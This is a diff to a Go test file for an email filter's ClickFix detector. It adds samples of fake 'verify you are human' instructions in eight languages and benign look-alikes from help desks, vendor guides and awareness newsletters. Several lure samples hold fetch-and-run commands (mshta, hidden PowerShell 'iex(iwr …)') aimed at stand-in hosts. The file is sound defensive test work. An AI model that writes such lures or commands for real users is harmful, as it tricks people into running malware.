@@ -1,5 +1,7 @@
 package heuristic
 
+import "github.com/kensa-milter/kensa/message"
+
 // clickfixPage is a page for clipboard-command: what Chromium's clipboard
 // holds once every button is clicked (cmd, "" for an honest twin, which
 // copies no command) is held to what the check says.
@@ -66,4 +68,41 @@ func clickfixCases() map[string][]sample {
 	// A mail body's scripts never run in a mail client.
 	out = append(out, sample{"in a body", msg(htmlPart("1", clickfixTricks()[0].page)), ""})
 	return map[string][]sample{"clipboard-command": out}
+}
+
+// clickfixTextCases: ClickFix instructions without a script, in a mail's
+// text, a meeting's and an attached page's, in eight languages, and the
+// help desks, guides and warnings that say the same.
+func clickfixTextCases() map[string][]sample {
+	const lure = "verify-team@captcha-check.test"
+	mail := func(s string) *message.Message { return sentBy(lure, msg(text("1", s))) }
+	return map[string][]sample{"clickfix-instructions": {
+		{"fake CAPTCHA steps, nothing shown", mail("Verify you are human\n1. Press Windows Key + R\n2. Press CTRL + V\n3. Press Enter"), "1"},
+		{"no pretext, a command shown", mail("To view the invoice press Win+R, paste the following and press Enter:\nmshta https://verify.test/c.hta"), "1"},
+		{"the Windows symbol, nothing shown", mail("Complete the check: press ⊞ + R, then Ctrl + V, then Enter."), "1"},
+		{"Win+X and PowerShell, a hidden command", mail("Press Win+X, choose Windows PowerShell, paste and press Enter:\npowershell -w hidden -c iex(iwr https://fix.test/f)"), "1"},
+		{"macOS Terminal with a pretext", mail("I'm not a robot: press Command + Space, type Terminal, paste the command (Cmd+V) and press Return."), "1"},
+		{"German", mail("Bestätigen Sie, dass Sie ein Mensch sind: Drücken Sie die Windows-Taste + R, fügen Sie mit Strg+V ein und drücken Sie Enter."), "1"},
+		{"French", mail("Je ne suis pas un robot. Appuyez sur la touche Windows + R, collez (Ctrl+V) puis appuyez sur Entrée."), "1"},
+		{"Spanish", mail("Para corregir el error: pulse la tecla de Windows + R, pegue con Ctrl+V y pulse Intro."), "1"},
+		{"Portuguese", mail("Verificação: pressione a tecla Windows + R, cole com Ctrl+V e pressione Enter."), "1"},
+		{"Italian", mail("Per risolvere il problema premi il tasto Windows + R, incolla con Ctrl+V e premi Invio."), "1"},
+		{"Dutch", mail("Verificatie: druk op de Windows-toets + R, plak met Ctrl+V en druk op Enter."), "1"},
+		{"Polish", mail("Weryfikacja: naciśnij klawisz Windows + R, wklej (Ctrl+V) i naciśnij Enter."), "1"},
+		{"the Run dialog by name", mail("Open the Run dialog, paste the code we copied for you and press Enter to restore access."), "1"},
+		{"open PowerShell, a command that runs a script from the web", mail("Open PowerShell, paste this line and press Enter:\npowershell -nop -c \"iex(irm https://update-check.test/u)\""), "1"},
+		{"a developer's mail: a terminal, curl | sh from elsewhere", sentBy("jo@partner.example.com", msg(text("1", "To try it, open a terminal and paste:\ncurl -fsSL https://get.docker.com | sh"))), ""},
+		{"an attached page's text", attach(htmlPart("2", "<html><body><h2>Verify you are human</h2><p>Press Windows + R, then CTRL + V, then Enter.</p></body></html>", named("Verify.html"))), "2"},
+		{"a meeting invitation's description", invitation(lure, "", "SUMMARY:Security check", `DESCRIPTION:To join verify you are human: press Win+R\, press Ctrl+V and press Enter.`), "2/ics/event.txt"},
+		// Honest twins.
+		{"a help desk inside the company: a share's path", sentBy("it@corp.example.jp", toStaff("staff@corp.example.jp", msg(text("1", "To map the drive: press Win+R, paste \\\\fileserver\\share and press Enter.")))), ""},
+		{"a help desk inside the company, nothing shown", sentBy("it@corp.example.jp", toStaff("staff@corp.example.jp", msg(text("1", "Press Win+R, paste the path from the wiki and press Enter.")))), ""},
+		{"type winver", mail("To see your Windows version press Win+R, type winver and press Enter."), ""},
+		{"a vendor's support: fix the error by a folder it shows", sentBy("support@vendor.example.com", msg(text("1", "To fix the error, press Win+R, paste %appdata%\\Vendor and press Enter, then delete the cache folder."))), ""},
+		{"a vendor's install guide for macOS from its own site", sentBy("docs@vendor.example.com", msg(text("1", "Copy the command below, open Terminal (Command+Space, type Terminal), paste it with Command+V and press Return:\ncurl -fsSL https://get.vendor.example.com/install.sh | sh"))), ""},
+		{"a vendor's Windows installer from its own site", sentBy("docs@vendor.example.com", msg(text("1", "Press Win+R, paste msiexec /i https://downloads.vendor.example.com/agent.msi and press Enter."))), ""},
+		{"an awareness newsletter quoting the lure", sentBy("security@corp.example.jp", msg(text("1", "Security tip: attackers show a fake CAPTCHA that asks you to press Win+R, paste with Ctrl+V and press Enter to \"verify you are human\". Never do this."))), ""},
+		{"awareness in German", sentBy("news@bank.example.de", msg(text("1", "Vorsicht vor Betrügern: Drücken Sie niemals Windows-Taste + R und fügen Sie mit Strg+V etwas ein, nur weil eine Seite Sie darum bittet (\"Ich bin kein Roboter\")."))), ""},
+		{"Windows and R packages, paste your data", mail("We moved to Windows and R packages 4.3 this month. Please paste your data into the shared sheet by Friday."), ""},
+	}}
 }
